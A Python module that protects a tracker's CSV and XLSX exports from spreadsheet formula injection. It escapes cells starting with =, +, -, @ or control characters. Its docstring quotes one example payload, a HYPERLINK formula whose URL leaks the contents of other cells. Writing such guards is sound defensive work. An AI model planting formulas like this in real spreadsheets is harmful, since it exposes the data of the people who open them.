"""Cells of every CSV and XLSX file the tracker writes: text is shown as typed, never run as a formula.

A name typed by a partner (`=HYPERLINK("http://…?leak="&C2&D2, "Open")`) or a cell of an uploaded
list became a live formula in the donor report's workbook, the refused-rows workbook and the 3W CSV
(issue 12, and ../shared/cases/outputs/formula_cells_refused.csv). Spreadsheet programs read a cell
starting with = + - @ (and a tab or carriage return before them) as a formula: OWASP, "CSV Injection".

One guard for every writer (projects/reports/xlsx.py, projects/reports/hxl.py,
beneficiaries/imports/errors_file.py, api/exports.py):

- XLSX: such text is written as a text cell (inline string, "quote prefix" style, so that editing
  the cell in Excel keeps it text); the value is exactly what was typed.
- CSV has no cell types: such text is written with a leading apostrophe, which Excel, LibreOffice
  and Google Sheets show as typed and do not store. Numbers (int, float) are written as numbers.
"""

from collections.abc import Iterable

from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # also full-width


def is_formula_like(value) -> bool:
    """True for text a spreadsheet program would evaluate (or could, once edited): see FORMULA_STARTS."""
    return isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS)


def csv_cell(value):
    """A value for csv.writer: formula-like text behind an apostrophe, anything else unchanged."""
    return f"'{value}" if is_formula_like(value) else value


def csv_row(values: Iterable) -> list:
    return [csv_cell(value) for value in values]


def xlsx_row(sheet, values: Iterable) -> list:
    """Values for `sheet.append` (normal or write-only sheet): formula-like text as a text cell."""
    return [_text_cell(sheet, value) if is_formula_like(value) else value for value in values]


def _text_cell(sheet, value: str):
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"  # openpyxl typed it "f" (formula) from its leading "="
    cell.quotePrefix = True
    return cell
